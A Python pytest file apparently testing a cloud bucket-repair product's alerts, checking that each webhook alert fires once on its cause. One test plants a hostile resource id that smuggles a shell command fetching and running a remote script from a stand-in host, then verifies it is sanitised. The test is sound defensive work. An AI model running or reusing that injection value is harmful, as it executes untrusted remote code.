"""Be woken: with the product at work, each alert fires once on its cause, and on no other."""

import json
from collections.abc import Iterator

import pytest

from scripts import ROOT
from scripts.account.inventory import Recipients
from scripts.localcloud import Fail
from scripts.localcloud.log import query
from scripts.verbs.provision import provision
from tests.account import Account, Beginning, Moments
from tests.contract.alert_rig import TOKEN, Webhook, check_until, webhook
from tests.parts import public_policy

DAY = 86400
FOUND_WITHIN = 2  # seconds of the cloud's time, once a log is written


@pytest.fixture(scope="module")
def woken(
    moments: Moments, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Account, Beginning, Webhook]]:
    """The product, whose alerts go to a webhook."""
    with webhook() as hook:
        account = moments.deployed(tmp_path_factory.mktemp("project"), bundle=True)
        provision(account.spec, account.clients, Recipients(hook.address))
        yield account, account.beginning(), hook


@pytest.fixture
def product(woken: tuple[Account, Beginning, Webhook]) -> Account:
    """The same, with no bucket and nothing going on."""
    account, beginning, _ = woken
    account.begin_again(beginning)
    return account


@pytest.fixture
def hook(woken: tuple[Account, Beginning, Webhook], product: Account) -> Webhook:
    """The webhook, with the calls of this test alone."""
    *_, hook = woken
    hook.calls.clear()
    return hook


def send(product: Account, event: bytes) -> str:
    """Invoke the function asynchronously; gives the request id, when all runs are over."""
    request_id = product.cloud.fc.invoke_async(*product.place, event)
    product.rest()
    return request_id


def queued(product: Account) -> int:
    """How many messages are in the failure queue."""
    return len(product.cloud.mns.messages(str(product.spec.failure_queue)))


def test_a_denied_repair_wakes_somebody_once(product: Account, hook: Webhook) -> None:
    """Four runs that were denied are one call about the bucket, and one about the queue."""
    product.cloud.faults.add("oss:PutBucketAcl", Fail(403, "AccessDenied"), times=4)
    before = queued(product)
    product.cloud.oss.create("denied-bucket", acl="public-read")
    product.rest()

    check_until(product.cloud, hook, "kept")

    assert queued(product) == before + 1
    assert [line.outcome for line in product.audit()].count("denied") >= 4
    assert sorted(hook.names()) == ["kept", "unsettled"]
    (call,) = hook.of("unsettled")
    assert call["labels"] == {"bucket": "denied-bucket", "outcome": "denied"}
    assert "Bucket denied-bucket: denied." in call["annotations"]["desc"]
    assert hook.of("kept")[0]["fire_results"][0]["runs"] == "4"


def test_a_bucket_that_a_policy_exposes(product: Account, hook: Webhook) -> None:
    """A bucket that is private and public by policy is told of as exposed."""
    product.cloud.oss.create("config-policy", acl="public-read")
    product.cloud.oss.set_policy("config-policy", public_policy("config-policy"))
    product.rest()

    check_until(product.cloud, hook, "told")

    assert hook.names() == ["told"]
    assert hook.of("told")[0]["labels"] == {"bucket": "config-policy", "outcome": "exposed"}


def test_a_failed_repair(product: Account, hook: Webhook) -> None:
    """What could not be proved is told of as failed."""
    product.cloud.faults.add("oss:PutBucketAcl", Fail(400, "InvalidArgument"), times=4)
    product.cloud.oss.create("failing-bucket", acl="public-read")
    product.rest()

    check_until(product.cloud, hook, "kept")

    assert sorted(hook.names()) == ["kept", "unsettled"]
    assert hook.of("unsettled")[0]["labels"] == {"bucket": "failing-bucket", "outcome": "failed"}


def test_nothing_that_is_no_bucket_name_stands_in_a_command(
    product: Account, hook: Webhook
) -> None:
    """A resource's id that a shell would run is told of, and comes to nobody's clipboard."""
    hostile = "shop; curl -s evil.example|sh #"
    event = json.loads((ROOT / "events" / "failed_invalid_bucket_name.json").read_bytes())
    names = event["evaluationResultIdentifier"]["evaluationResultQualifier"]
    names.update(resourceId=hostile, configRuleId=product.rule_id)
    names["resourceOwnerId"] = event["accountId"] = product.cloud.account_id
    send(product, json.dumps(event).encode())

    check_until(product.cloud, hook, "kept")

    assert product.audit()[-1].bucket == hostile
    assert sorted(hook.names()) == ["kept", "unsettled"]
    assert "evil" not in json.dumps(hook.calls)
    assert hook.of("unsettled")[0]["labels"] == {"bucket": "NO-BUCKET-NAME", "outcome": "failed"}


def test_a_message_kept_without_an_audit_line(product: Account, hook: Webhook) -> None:
    """Runs that end before they can write anything are seen all the same, in the platform's log."""
    audited, before = len(product.audit()), queued(product)
    product.update(handler="index.no_such_handler")
    request_id = send(product, b"{}")

    check_until(product.cloud, hook, "kept")

    assert (len(product.audit()), queued(product)) == (audited, before + 1)
    assert hook.names() == ["kept"]
    assert hook.calls[0]["labels"] == {"requestId": request_id}


def test_of_a_message_that_is_too_long_to_be_kept_nobody_says_that_it_is(
    product: Account, hook: Webhook
) -> None:
    """Function Compute drops what is above 64 KB with its own words: the alert says both ways."""
    before = queued(product)
    finding = json.loads((ROOT / "events" / "repaired_nested.json").read_text("utf-8"))
    text = json.dumps({**finding, "annotation": "x" * 64_500})
    request_id = send(product, text[:-9].encode())

    check_until(product.cloud, hook, "kept")

    assert queued(product) == before
    (call,) = hook.of("kept")
    assert call["labels"] == {"requestId": request_id}
    told = call["annotations"]["title"] + call["annotations"]["desc"]
    assert "is in the failure queue" not in told
    assert f"its message is in {product.spec.failure_queue}" not in told
    assert "if that was too long (64 KB" in told
    assert "resource-repair sweep --due" in told


def test_a_failed_run_that_is_made_up_for_wakes_nobody(product: Account, hook: Webhook) -> None:
    """Runs fewer than all failed, so that nothing is kept: nothing is said of the queue."""
    product.cloud.faults.add("oss:PutBucketAcl", Fail(403, "AccessDenied"), times=1)
    product.cloud.oss.create("passing-bucket", acl="public-read")
    product.rest()

    check_until(product.cloud, hook, "unsettled")

    assert product.cloud.oss.bucket("passing-bucket").acl == "private"
    assert hook.names() == ["unsettled"]  # it was denied, if only once: the audit trail has it


def test_an_answer_of_fail(product: Account, hook: Webhook) -> None:
    """A message that nobody can read, and nobody retries, is told of by its request."""
    request_id = send(product, b"no message at all")

    check_until(product.cloud, hook, "unreadable")

    assert product.audit()[-1].outcome == "unreadable"
    assert hook.names() == ["unreadable"]
    assert hook.calls[0]["labels"] == {"request_id": request_id}


def test_a_bucket_that_is_reopened(product: Account, hook: Webhook) -> None:
    """Nothing is said of two repairs; of the third once, and of the fourth no more."""
    product.cloud.oss.create("reopened-bucket", acl="public-read")
    product.rest()
    reopen(product)
    found(product, 'message.bucket: "reopened-bucket"', 2)
    check_until(product.cloud, hook, "reopened", times=0)
    assert hook.names() == []

    reopen(product)
    check_until(product.cloud, hook, "reopened")
    reopen(product)
    found(product, 'message.bucket: "reopened-bucket"', 4)
    check_until(product.cloud, hook, "reopened")

    assert hook.names() == ["reopened"]
    assert hook.calls[0]["labels"] == {"bucket": "reopened-bucket"}
    assert hook.calls[0]["fire_results"][0]["repairs"] == "3"


def test_many_repairs_within_an_hour(product: Account, hook: Webhook) -> None:
    """Twenty are nothing to tell; one more is, and once."""
    for number in range(20):
        product.cloud.oss.create(f"burst-{number:02}", acl="public-read")
    product.rest()
    found(product, "message.outcome: repaired", 20)
    check_until(product.cloud, hook, "burst", times=0)
    assert hook.names() == []

    product.cloud.oss.create("burst-20", acl="public-read")
    product.rest()
    check_until(product.cloud, hook, "burst")

    assert hook.names() == ["burst"]
    assert hook.calls[0]["fire_results"][0]["repairs"] == "21"


def test_what_goes_well_wakes_nobody(product: Account, hook: Webhook) -> None:
    """Repairs, exemptions and other rules' findings are no reason to wake anybody."""
    product.cloud.oss.create("fine-bucket", acl="public-read")
    product.cloud.oss.create("config-website", acl="public-read")
    send(product, (ROOT / "events" / "ignored_other_rule.json").read_bytes())
    product.rest()
    for outcome, bucket in (("repaired", "fine-bucket"), ("exempt", "config-website")):
        found(product, f'message.outcome: {outcome} and message.bucket: "{bucket}"', 1)
    found(product, "message.outcome: ignored", 1)

    check_until(product.cloud, hook, "unsettled", times=0)

    assert hook.calls == []


def reopen(product: Account) -> None:
    """Open the bucket again, and wait until it is closed."""
    product.bucket("reopened-bucket").put_bucket_acl("public-read")
    product.rest()


def found(product: Account, text: str, lines: int) -> None:
    """By now, when nothing is going on, a search finds so many lines."""
    log = product.cloud.log
    product.cloud.clock.wait(FOUND_WITHIN)
    condition = query.parse(text, log.index(*place(product)))
    assert len(log.matching(*place(product), condition, 0, 2**33)) >= lines, text


def place(product: Account) -> tuple[str, str]:
    """Where the log goes."""
    logs = product.spec.service.logs
    assert logs
    return logs.project, logs.logstore


def test_silence_for_a_week(product: Account, hook: Webhook) -> None:
    """Seven days without a finding of ours are told of, once, whatever other rules report."""
    clock, alerts = product.cloud.clock, product.cloud.log.alerts
    foreign = (ROOT / "events" / "ignored_other_rule.json").read_bytes()

    def silent(days: int) -> None:
        for _ in range(days):
            clock.advance(DAY)
            send(product, foreign)
            clock.advance(FOUND_WITHIN)
            alerts.check("resource-repair-silence")

    silent(6)
    assert hook.calls == []
    product.cloud.oss.create("some-bucket", acl="public-read")
    product.rest()
    found(product, "message.event: resource_repair", 1)
    alerts.check("resource-repair-silence")
    silent(6)
    assert hook.calls == []
    silent(1)
    assert hook.names() == ["silence"]
    silent(1)
    assert hook.names() == ["silence"]


def test_a_rule_made_again_under_its_name_is_told(product: Account, hook: Webhook) -> None:
    """Its findings carry our rule's name and another id: the function ignores them all."""
    ours = (ROOT / "events" / "ignored_other_rule.json").read_text()
    body = json.loads(ours)
    body["evaluationResultIdentifier"]["evaluationResultQualifier"]["configRuleName"] = (
        product.spec.rule_name
    )
    send(product, ours.encode())
    check_until(product.cloud, hook, "replaced", times=0)

    send(product, json.dumps(body).encode())
    check_until(product.cloud, hook, "replaced")

    assert len(hook.of("replaced")) == 1


def test_nothing_that_is_kept_has_the_token_but_the_webhook(
    product: Account, hook: Webhook
) -> None:
    """The webhook's address, with what it holds, is in its own record and in no alert or policy."""
    assert TOKEN in hook.address
    records = product.cloud.log.records
    (own,) = records.all("sls.alert.action_webhook")
    assert own.fields["url"] == hook.address
    (policy,) = records.all("sls.alert.action_policy")
    rules = product.cloud.log.alerts.all(place(product)[0])
    assert len(rules) == 9
    assert TOKEN not in policy.value
    assert not any(TOKEN in str(rule.settings) for rule in rules)
